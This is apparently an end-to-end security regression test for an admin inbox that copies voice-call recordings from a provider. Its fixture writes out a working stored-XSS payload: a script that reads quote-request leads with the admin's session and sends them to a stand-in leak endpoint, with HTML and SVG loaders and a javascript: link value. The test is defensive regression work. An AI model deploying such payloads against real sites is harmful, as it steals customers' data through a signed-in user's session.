// The security review's recording steps in Chromium against the release backend, signed in to the
// inbox: the provider's storage (a stand-in on loopback, listed in RECORDING_ORIGINS by address)
// holds, as "recordings", a script that reads /api/admin/quote-requests with the broker's cookie,
// served as JavaScript, and an HTML page and an SVG that load that script's copy from the site
// itself (past `script-src 'self'`, as the review's did). The backend copies them; opened in the
// signed-in browser, each copy is a download, never a page, and the script copy does not run as a
// script of the site even when a page of the site's own asks for it. (Against the copies served
// as before, inline and with the host's type, this test fails: the page copy runs and reads the
// leads.) The inbox links no provider address but an absolute https one (not a site-relative,
// javascript: or http: one) and plays only the site's copy.
import { createServer } from 'node:http';
import { ADMIN_PASSWORD_HASH, signIn } from './support/inbox.mjs';
import { startServer } from './support/server.mjs';
import { expect, test } from './support/test.mjs';

const VOICE_SECRET = 'e2e-voice-secret-0123456789abcdef01';

/**
 * What the review stored: a script that reads the leads with the broker's cookie, marks the page
 * (`window.leaked`) and sends what it read to `leak`, the stand-in's counter of what got out; an
 * HTML page and an SVG that load that script's copy from the site itself, past `script-src 'self'`.
 */
function hostile(leak) {
  const steal = `window.leaked = true; fetch('/api/admin/quote-requests').then((r) => r.text())
    .then((text) => { new Image().src = '${leak}?' + encodeURIComponent(text.slice(0, 200)); });`;
  const script = '/api/admin/conversations/call-script/recording';
  return {
    '/recordings/page.wav': [
      'text/html',
      `<!doctype html><title>ran</title><script src="${script}"></script>`,
    ],
    '/recordings/image.wav': [
      'image/svg+xml',
      `<svg xmlns="http://www.w3.org/2000/svg"><script href="${script}"/></svg>`,
    ],
    '/recordings/script.wav': ['application/javascript', steal],
  };
}

/** The provider's storage on loopback: serves the hostile copies and counts what leaks to it. */
async function startStorage() {
  const leaks = [];
  let files = {};
  const server = createServer((request, response) => {
    if (request.url.startsWith('/leak')) {
      leaks.push(request.url);
      response.writeHead(204).end();
      return;
    }
    const file = files[request.url];
    if (!file) {
      response.writeHead(404).end();
      return;
    }
    response.writeHead(200, { 'content-type': file[0] }).end(file[1]);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${server.address().port}`;
  files = hostile(`${origin}/leak`);
  return {
    origin,
    url: (path) => `${origin}${path}`,
    leaks: () => leaks,
    stop: () => new Promise((resolve) => server.close(resolve)),
  };
}

async function reportCall(url, callId, recordingUrl) {
  const response = await fetch(new URL('/api/vapi/webhook', url), {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-vapi-secret': VOICE_SECRET },
    body: JSON.stringify({
      message: {
        type: 'end-of-call-report',
        call: { id: callId },
        endedReason: 'customer-ended-call',
        artifact: { transcript: 'AI: Hello.', recordingUrl },
      },
    }),
  });
  expect(response.ok, `${callId}: ${response.status}`).toBeTruthy();
}

/** Where the copy of `callId` stands, asked with the page's own session. */
function recordingStatus(page, callId) {
  return page.evaluate(async (id) => {
    const response = await fetch(`/api/admin/conversations/${encodeURIComponent(id)}`);
    return response.ok ? ((await response.json()).recording?.status ?? null) : null;
  }, callId);
}

test.describe('recordings in the inbox', () => {
  let server;
  let storage;
  const copied = ['call-page', 'call-image', 'call-script'];
  /** A provider address in each form the inbox must not link, and one it links. */
  const addresses = {
    'call-relative': '/api/admin/quote-requests',
    'call-javascript': 'javascript:fetch("/api/admin/quote-requests")',
    'call-http': 'http://storage.vapi.ai/call-http-mono.wav',
    'call-https': 'https://storage.vapi.ai/call-https-mono.wav',
  };

  test.beforeAll(async () => {
    storage = await startStorage();
    server = await startServer({
      env: {
        ADMIN_PASSWORD_HASH,
        VAPI_WEBHOOK_SECRET: VOICE_SECRET,
        RECORDING_ORIGINS: storage.origin,
      },
    });
    await reportCall(server.url, 'call-page', storage.url('/recordings/page.wav'));
    await reportCall(server.url, 'call-image', storage.url('/recordings/image.wav'));
    await reportCall(server.url, 'call-script', storage.url('/recordings/script.wav'));
    for (const [callId, address] of Object.entries(addresses)) {
      await reportCall(server.url, callId, address);
    }
  });
  test.afterAll(async () => {
    await server?.stop();
    await storage?.stop();
  });

  test("a copy holding a page, an image or a script never runs with the broker's session", async ({
    openPage,
  }) => {
    const { page } = await openPage({
      acceptDownloads: true,
      // The site's own page asking for the script copy: Chromium refuses it, and says so.
      expectErrors: [/Refused to execute script from .*call-script\/recording/],
    });
    await signIn(page, server.url);
    for (const callId of copied) {
      await expect
        .poll(() => recordingStatus(page, callId), {
          timeout: 20_000,
          intervals: [250],
          message: `the copy of ${callId} made`,
        })
        .toBe('stored');
    }
    const inbox = page.url();

    // Opened in the signed-in browser, as a link to it would open it: a download, not a page.
    for (const callId of ['call-page', 'call-image']) {
      const address = new URL(`/api/admin/conversations/${callId}/recording`, server.url).href;
      const [download] = await Promise.all([
        page.waitForEvent('download', { timeout: 10_000 }).catch(() => null),
        page.goto(address).catch((error) => error),
      ]);
      expect(await page.evaluate(() => window.leaked ?? false), `${callId} ran`).toBe(false);
      expect(page.url(), 'still on the inbox').toBe(inbox);
      expect(download?.url(), `${callId} downloaded`).toBe(address);
      await download.cancel();
    }

    // A page of the site's own origin loading the script copy, as the review's HTML copy did:
    // its type is opaque bytes that may not be sniffed, so it never runs.
    const loaded = await page.evaluate(
      (src) =>
        new Promise((resolve) => {
          const script = document.createElement('script');
          script.src = src;
          script.onload = () => resolve('ran');
          script.onerror = () => resolve('refused');
          document.head.append(script);
        }),
      '/api/admin/conversations/call-script/recording',
    );
    expect(loaded).toBe('refused');
    expect(await page.evaluate(() => window.leaked ?? false)).toBe(false);

    // The same answer for every copy, whatever it holds.
    const headers = await page.evaluate(async (ids) => {
      const seen = {};
      for (const id of ids) {
        const response = await fetch(`/api/admin/conversations/${id}/recording`);
        seen[id] = ['content-type', 'content-disposition', 'x-content-type-options']
          .concat('content-security-policy')
          .map((name) => response.headers.get(name));
      }
      return seen;
    }, copied);
    for (const callId of copied) {
      expect(headers[callId], callId).toEqual([
        'application/octet-stream',
        'attachment',
        'nosniff',
        'sandbox',
      ]);
    }

    // The conversation's page plays only the site's copy and links nothing at the storage.
    await page.goto(new URL('/admin#conversation/call-page', server.url).href);
    await expect(page.getByRole('heading', { name: 'Conversation call-page' })).toBeVisible();
    await expect(page.getByLabel('Call recording')).toHaveAttribute(
      'src',
      '/api/admin/conversations/call-page/recording',
    );
    await expect(page.locator(`a[href^="${storage.origin}"]`)).toHaveCount(0);
    expect(storage.leaks(), 'nothing read the leads').toEqual([]);
  });

  test('the inbox links a provider address only when it is absolute https', async ({
    openPage,
  }) => {
    const { page } = await openPage();
    await signIn(page, server.url);
    for (const [callId, address] of Object.entries(addresses)) {
      // None of these is copied: not a URL, or not on RECORDING_ORIGINS.
      await expect
        .poll(() => recordingStatus(page, callId), { timeout: 20_000, intervals: [250] })
        .toBe('failed');
      await page.goto(new URL(`/admin#conversation/${callId}`, server.url).href);
      await expect(page.getByRole('heading', { name: `Conversation ${callId}` })).toBeVisible();
      await expect(page.getByText('It could not be copied from the voice provider.')).toBeVisible();
      const link = page.getByRole('link', { name: 'At the voice provider' });
      if (callId === 'call-https') {
        await expect(link).toHaveAttribute('href', address);
      } else {
        await expect(link, callId).toHaveCount(0);
      }
      await expect(page.locator('a[href^="javascript"], a[href^="/api/admin/quote"]')).toHaveCount(
        0,
      );
    }
  });
});
